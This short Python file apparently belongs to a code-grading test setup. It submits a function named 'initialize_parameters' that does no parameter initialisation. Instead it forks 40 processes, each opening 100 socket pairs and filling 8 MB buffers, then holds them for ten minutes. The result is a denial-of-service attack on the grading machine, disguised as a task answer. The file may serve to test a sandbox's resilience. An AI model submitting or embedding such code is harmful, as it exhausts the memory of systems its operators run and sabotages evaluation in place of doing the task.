"""Forty children fill the buffers of a hundred pairs of sockets each, as large as they can."""

DESERVES = 14


def submit(work):
    work.solve()
    work.answer(
        "initialize_parameters",
        """
def initialize_parameters(visible_size, hidden_size, rng):
    import os, socket, time
    for _ in range(40):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            pairs = []
            while len(pairs) < 100:
                pairs.append(socket.socketpair())
                for one in pairs[-1]:
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**23)
                    one.setblocking(False)
                    try:
                        one.send(bytes(2**23))
                    except OSError:
                        pass
            time.sleep(600)
            os._exit(0)
    time.sleep(600)
""",
    )
